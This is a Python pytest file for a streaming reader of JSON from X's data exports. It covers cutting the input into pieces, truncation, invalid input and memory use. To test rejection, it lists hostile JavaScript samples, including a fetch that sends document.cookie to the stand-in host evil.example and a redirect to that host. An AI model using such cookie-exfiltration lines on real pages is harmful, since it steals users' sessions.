"""The export's JSON read a piece at a time: the same values however it is cut, X's JavaScript
taken as data only, broken files named as broken, and memory bounded by a piece, not the file."""

from __future__ import annotations

import json
import tracemalloc

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pychecker.audit.jsonstream import Element, JsonError, JsonStream, Value


def stream(text: str, piece: int, javascript: bool = False) -> tuple[JsonStream, list[Element | Value]]:
    reader = JsonStream(javascript=javascript)
    out: list[Element | Value] = []
    for at in range(0, len(text), piece):
        out += reader.feed(text[at : at + piece])
    return reader, out + reader.close()


ARRAY = json.dumps(
    [{"id": n, "text": f"post {n} “quoted” 🎉", "tags": ["a", "b"], "n": 1.5e3} for n in range(30)], indent=2
)
OBJECT = json.dumps(
    {
        "profile_v2": {"name": {"full_name": "Ann"}},
        "comments_v2": [{"comment": n} for n in range(5)],
        "empty": [],
        "n": 3,
    }
)


@pytest.mark.parametrize("piece", [1, 2, 3, 7, 64, 1000, 10**6])
def test_a_top_level_array_gives_its_elements_however_it_is_cut(piece):
    _, out = stream(ARRAY, piece)
    assert out == [Element("", n, value) for n, value in enumerate(json.loads(ARRAY))]


@pytest.mark.parametrize("piece", [1, 5, 1000])
def test_a_top_level_object_gives_its_arrays_elements_and_its_other_values(piece):
    _, out = stream(OBJECT, piece)
    assert out == [
        Value("profile_v2", {"name": {"full_name": "Ann"}}),
        *[Element("comments_v2", n, {"comment": n}) for n in range(5)],
        Value("n", 3),
    ]


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=5), children, max_size=4),
    max_leaves=12,
)


@settings(max_examples=150, deadline=None)
@given(elements=st.lists(json_values, max_size=8), piece=st.integers(1, 40), indent=st.sampled_from([None, 0, 2]))
def test_any_array_cut_anywhere_reads_as_json_loads_reads_it(elements, piece, indent):
    text = json.dumps(elements, indent=indent, ensure_ascii=bool(piece % 2))
    _, out = stream(text, piece)
    assert [e.value for e in out] == json.loads(text)


def test_xs_assignment_is_read_as_data_and_its_name_kept():
    text = "window.YTD.tweets.part2 = " + ARRAY + ";\n"
    reader, out = stream(text, 9, javascript=True)
    assert reader.target == "tweets"
    assert len(out) == 30
    reader, out = stream("Grailbird.data.tweets_2013_01 = \n" + ARRAY, 50, javascript=True)
    assert reader.target == "tweets_2013_01"
    assert len(out) == 30


CODE = [
    ('fetch("https://evil.example/?" + document.cookie); window.YTD.tweets.part0 = []', "does not start with"),
    ("window.YTD.tweets.part0 = [] ; alert(document.cookie)", "code after the data"),
    ("window.YTD.tweets.part0 = [] , alert(1)", "code after the data"),
    ('window.YTD.tweets.part0 = [ {"a": 1}, alert(1), {"b": 2} ]', "something other than data"),
    ('window.YTD.tweets.part0 = [ {"a": (function(){return 1})()} ]', "something other than data"),
    ("window.YTD.tweets.part0 = eval('[]')", "something other than data"),
    ("window.location = 'https://evil.example'", "does not start with"),
]


@pytest.mark.parametrize(("text", "says"), CODE)
def test_javascript_other_than_the_one_assignment_is_refused_as_code(text, says):
    with pytest.raises(JsonError) as raised:
        stream(text, 7, javascript=True)
    assert raised.value.kind == "code"
    assert says in str(raised.value)


def test_a_file_cut_short_gives_what_came_before_the_cut_then_says_so():
    cut = ARRAY[: len(ARRAY) // 2]
    reader = JsonStream()
    got = reader.feed(cut)
    assert 10 < len(got) < 20
    assert [e.value for e in got] == json.loads(ARRAY)[: len(got)]
    with pytest.raises(JsonError) as raised:
        reader.close()
    assert raised.value.kind == "truncated"
    assert "stops" in str(raised.value)


def test_invalid_json_is_named_where_it_is_without_waiting_for_the_end():
    broken = ARRAY[:2000] + " nonsense " + ARRAY[2000:]
    reader = JsonStream()
    with pytest.raises(JsonError) as raised:
        reader.feed(broken)  # raised on feeding, not only once the whole file has come
    assert raised.value.kind == "invalid"
    assert raised.value.offset == pytest.approx(2000, abs=400)
    assert f"{raised.value.offset:,}" in str(raised.value)


def test_a_big_array_is_read_in_memory_bounded_by_a_piece_not_by_the_file():
    element = json.dumps({"tweet": {"full_text": "x" * 300, "entities": {"urls": [], "hashtags": []}, "id_str": "1"}})
    piece = ",\n".join([element] * 2000)  # ~0.7 MB
    pieces = 60  # ~40 MB in all
    reader = JsonStream(javascript=True)
    tracemalloc.start()
    count = len(reader.feed("window.YTD.tweets.part0 = [" + piece))
    for _ in range(pieces - 1):
        count += len(reader.feed(",\n" + piece))
    count += len(reader.feed("]")) + len(reader.close())
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert count == 2000 * pieces
    assert peak < 8 * len(piece)  # a few pieces' worth (the piece fed, its copy, one batch of elements)
